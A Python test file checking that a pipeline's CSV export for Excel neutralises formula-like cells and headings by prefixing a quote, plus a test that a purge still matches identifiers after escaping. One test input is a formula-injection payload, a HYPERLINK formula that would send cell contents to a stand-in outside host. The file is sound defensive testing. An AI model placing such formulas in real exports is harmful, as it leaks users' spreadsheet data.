"""What a person opens in Excel holds no formula: cells that look like one arrive as text."""

import csv
import io

import pandas as pd
import pytest

from fs_pipeline.exports.excel import csv_for_excel
from fs_pipeline.purge.erasing import Sought


@pytest.mark.parametrize(
    ("cell", "as_text"),
    [
        ('=HYPERLINK("http://other.example/"&A1)', '\'=HYPERLINK("http://other.example/"&A1)'),
        ("+44 1992 555000", "'+44 1992 555000"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("\n=1+1", "'\n=1+1"),
        ("\tindented", "'\tindented"),
        ("  =1+1", "'  =1+1"),
        ("\u00a0=1+1", "'\u00a0=1+1"),
        ("＝1+1", "'＝1+1"),
        ("'=1+1", "'=1+1"),
        ("note\r=1+1", "note\r=1+1"),  # quoted, and so no row of its own
        ("A=1", "A=1"),
        ("2017-10-01", "2017-10-01"),
        ("1-1", "1-1"),
        ("  indented", "  indented"),
        ("o'clock", "o'clock"),
        ("", ""),
        (-1, "-1"),  # a number of ours, such as a row's
    ],
)
def test_cells_and_headings(cell, as_text):
    frame = pd.DataFrame({"file": ["people.csv"], cell: [cell]}, dtype="object")
    content = csv_for_excel(frame).decode("utf-8-sig")
    headings, cells = csv.reader(io.StringIO(content, newline=""))
    assert headings == ["file", str(cell) if isinstance(cell, int) else as_text]
    assert cells == ["people.csv", as_text]


def test_a_purge_knows_identifiers_again_that_look_like_formulas():
    sought = Sought(frozenset({"-17", "=A"}))
    assert sought.left_of(["person_id"], ["'-17"]) is None
    assert sought.left_of(["person_id"], ["-17"]) is None
    assert sought.left_of(["person_id", "note"], ["'=A"]) is None
    assert sought.left_of(["person_id"], ["17"]) == ["17"]
